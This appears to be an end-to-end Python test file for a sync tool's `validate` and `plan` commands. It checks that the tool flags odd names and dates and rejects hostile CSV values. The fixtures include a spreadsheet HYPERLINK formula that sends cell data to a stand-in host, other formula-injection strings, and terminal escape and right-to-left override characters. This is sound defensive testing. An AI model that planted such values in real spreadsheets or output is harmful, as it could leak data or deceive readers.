"""What `syncd validate` and `syncd plan` say about doubtful and hostile values, and what
validate needs to run (issue 11, items 1, 8, 9, 14 and 21), as a user runs them.

`plan` runs on a state database that does not exist yet (an empty mirror, nothing is
created) and a real vendor URL it never calls; `--today` pins the date it plans as of.
`validate` has no such option, so its dates are chosen to hold on any day this century.
"""

from __future__ import annotations

import csv
import json
import re
import subprocess
import tomllib
from pathlib import Path

import pytest

from tests.e2e.kit import EXAMPLE, shown, syncd

KEY_ENV = "SYNCD_E2E_VALUES_KEY"
HEADER = "Employee ID,Name,Email,Birth Date,Hire Date,Termination Date,Status"
CONFIG = """\
[state]
url = "sqlite:///{folder}/state.db"

[sources.hris]
path = "export.csv"
columns = {{ employee_id = "Employee ID", full_name = "Name", email = "Email", \
birth_date = "Birth Date", hire_date = "Hire Date", termination_date = "Termination Date", \
status = "Status" }}
date_fields = ["birth_date", "hire_date", "termination_date"]
date_formats = ["%m/%d/%y", "%m/%d/%Y"]
derived = {{ username = "{{employee_id}}" }}
name_split = {{ column = "full_name"{split} }}

[connections.lms]
vendor = "litmos"
base_url = "https://api.litmos.com/v1.svc"
credentials = {{ api_key = "${{{key_env}}}" }}
options = {{ source = "syncd-e2e-values" }}
"""
DOUBTFUL = [
    "1001,Suharto,s@corp.test,05/01/51,01/15/20,,Active",  # one word; 1951, not 2051
    '1002,"Lee, Ann",a@corp.test,01/01/2999,01/15/20,,Active',  # born in the future
    '1003,"Ray, Bob",b@corp.test,,12/31/9999,,Active',  # hired in 9999
    '1004,"Moe, Cid",c@corp.test,,01/15/20,03/31/21,Active',  # active, terminated in 2021
    '1005,"Kay, Dee",d@corp.test,07/04/76,01/15/20,,Active',
]


def setup(folder: Path, rows: list[str], *, split: str = "") -> Path:
    config = folder / "syncd.toml"
    config.write_text(
        CONFIG.format(folder=folder.as_posix(), key_env=KEY_ENV, split=split), encoding="utf-8"
    )
    (folder / "export.csv").write_text("\n".join([HEADER, *rows]) + "\n", encoding="utf-8")
    return config


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return syncd(*args, cwd=cwd, env={KEY_ENV: "k-values-0123456789"})


def count_of(out: str, label: str) -> int:
    """The number in the validate summary's row ``label``."""
    match = re.search(rf"│ +{label} +│ +([\d,]+) │", out)
    assert match, f"no `{label}` row in:\n{out}"
    return int(match.group(1).replace(",", ""))


# --------------------------------------------------------------------------- items 1 and 8


def test_validate_counts_one_word_names_and_implausible_dates_as_warnings(tmp_path):
    config = setup(tmp_path, DOUBTFUL)
    proc = run("validate", "--config", str(config), cwd=tmp_path)
    assert proc.returncode == 0, shown(proc)
    out = proc.stdout
    assert count_of(out, "accepted") == 5 and count_of(out, "warnings") == 4
    for reason in ("single_word_name", "future_date", "far_future_date"):
        assert count_of(out, reason) == 1, reason
    assert count_of(out, "active_after_termination") == 1
    assert "`Suharto` is a single word: used as both first and last name" in out
    assert "`01/01/2999` is 2999-01-01, in the future; `birth_date` is always in the past" in out
    assert "`12/31/9999` is 9999-12-31, more than 366 days ahead" in out
    assert "status `Active` but the termination date `03/31/21` (2021-03-31) has passed" in out
    assert "2051" not in out


def test_a_one_word_name_can_be_rejected_instead(tmp_path):
    config = setup(tmp_path, DOUBTFUL, split=', single_word = "reject"')
    proc = run("validate", "--config", str(config), cwd=tmp_path)
    assert proc.returncode == 1, shown(proc)
    assert count_of(proc.stdout, "rejected") == 1
    assert "`Suharto` is a single word: no first name" in proc.stdout


def test_plan_shows_the_same_warnings_with_counts(tmp_path):
    config = setup(tmp_path, DOUBTFUL)
    proc = run("plan", "--config", str(config), "--today", "2025-06-01", cwd=tmp_path)
    assert proc.returncode == 2, shown(proc)
    out = proc.stdout
    for reason in ("single_word_name", "future_date", "far_future_date"):
        assert re.search(rf"warning 1 row\(s\) kept with a warning: .*\({reason}\)", out), out
    assert "active after the termination date (active_after_termination)" in out
    assert not (tmp_path / "state.db").exists(), "plan created nothing"
    data = json.loads(
        run(
            "plan", "--config", str(config), "--today", "2025-06-01", "--format", "json",
            cwd=tmp_path,
        ).stdout
    )  # fmt: skip
    assert data["source"]["warnings"] == {
        "single_word_name": 1,
        "future_date": 1,
        "far_future_date": 1,
        "active_after_termination": 1,
    }


def test_plan_of_a_clean_export_has_no_roster_warning(tmp_path):
    config = setup(tmp_path, DOUBTFUL[4:])
    proc = run("plan", "--config", str(config), "--today", "2025-06-01", cwd=tmp_path)
    assert proc.returncode == 2, shown(proc)
    assert "kept with a warning" not in proc.stdout


# --------------------------------------------------------------------------- items 9 and 14


def test_hostile_values_are_rejected_and_the_report_runs_no_formula(tmp_path):
    rows = [
        '=1+1,"Lee, Ann",not-an-address,,01/15/20,,Active',
        '-2,"Lee, Ann",a2@corp.test,,01/15/20,,Active',
        '-2,"Ray, Bob",b@corp.test,,01/15/20,,Active',
        '1003,"Moe, Cid","=HYPERLINK(""http://evil.test/?q=""&A1,""open"")",,01/15/20,,Active',
        '1004,"Kay, Dee","@SUM(A1:A9)",,01/15/20,,Active',
        '1005,"Roe, Eve","\t=1+1",,01/15/20,,Active',
        f'1006,"Poe, Fay",{"f" * 250}@corp.test,,01/15/20,,Active',
        '1007,"Ann\u202eeeL, Gil",g@corp.test,,01/15/20,,Active',
        '1008,"Esc\x1b[2J, Hal",h@corp.test,,01/15/20,,Active',
        '1009,"Ivy\ufeff, Ian",i@corp.test,,01/15/20,,Active',
    ]
    config = setup(tmp_path, rows)
    report = tmp_path / "rejected.csv"
    proc = run("validate", "--config", str(config), "--report", str(report), cwd=tmp_path)
    assert proc.returncode == 1, shown(proc)
    out = proc.stdout
    assert count_of(out, "control_character") == 2
    assert "contains U+202E RIGHT-TO-LEFT OVERRIDE, a control character" in out
    assert "\x1b" not in out and "\u202e" not in out, "nothing hostile reaches the terminal"
    assert "260 characters; an email address has at most 254" in out
    assert count_of(out, "invisible_character") == 1
    with report.open(newline="", encoding="utf-8") as handle:
        cells = {(r["line"], r["reason"]): r for r in csv.DictReader(handle)}
    assert cells[("3", "duplicate_key")]["key"] == "'-2"
    assert cells[("3", "duplicate_key")]["value"] == "'-2"
    assert cells[("5", "invalid_email")]["value"] == (
        '\'=HYPERLINK("http://evil.test/?q="&A1,"open")'
    )
    assert cells[("6", "invalid_email")]["value"] == "'@SUM(A1:A9)"
    assert cells[("7", "invalid_email")]["value"] == "'\t=1+1"
    assert cells[("9", "control_character")]["column"] == "Name"
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in cells.values()
        for value in row.values()
    )
    assert cells[("2", "invalid_email")]["key"] == "'=1+1"
    assert ".csv,3,'-2," in report.read_text(encoding="utf-8"), "numbers we write stay numbers"


# --------------------------------------------------------------------------- item 21

UNUSED = """
[connections.other]
vendor = "litmos"
base_url = "https://${SYNCD_E2E_NO_HOST}/v1.svc"
credentials = { api_key = "${SYNCD_E2E_NO_KEY}" }
options = { source = "${SYNCD_E2E_NO_SOURCE}" }
"""


def test_validate_needs_no_secret_or_setting_of_any_connection(tmp_path):
    config = setup(tmp_path, DOUBTFUL[4:])
    text = config.read_text(encoding="utf-8")
    text = text.replace(
        f'url = "sqlite:///{tmp_path.as_posix()}/state.db"',
        'url = "postgresql+psycopg://syncd:${SYNCD_E2E_NO_PG}@db.internal/syncd"',
    )
    config.write_text(text + UNUSED, encoding="utf-8")
    proc = syncd("validate", "--config", str(config), cwd=tmp_path)  # no variable set at all
    assert proc.returncode == 0, shown(proc)
    assert count_of(proc.stdout, "accepted") == 1
    check = syncd("config", "check", str(config), cwd=tmp_path)
    assert check.returncode != 0, "the commands that use them still refuse"
    for name in ("SYNCD_E2E_NO_HOST", "SYNCD_E2E_NO_SOURCE", "SYNCD_E2E_NO_PG", KEY_ENV):
        assert name in check.stderr, shown(check)


def test_validate_still_needs_the_variables_of_its_source(tmp_path):
    config = setup(tmp_path, DOUBTFUL[4:])
    text = config.read_text(encoding="utf-8").replace(
        'path = "export.csv"', 'path = "${SYNCD_E2E_NO_DIR}/export.csv"'
    )
    config.write_text(text, encoding="utf-8")
    proc = syncd("validate", "--config", str(config), cwd=tmp_path)
    assert proc.returncode == 1, shown(proc)
    assert "sources.hris.path: environment variable SYNCD_E2E_NO_DIR is not set" in proc.stderr


@pytest.mark.parametrize("phrase", ["in memory", "empty account, so every run"])
def test_the_example_does_not_call_the_simulator_in_memory(phrase):
    text = EXAMPLE.read_text(encoding="utf-8")
    assert phrase not in text
    assert "syncd-sandbox-<connection>.state" in text
    tomllib.loads(text)
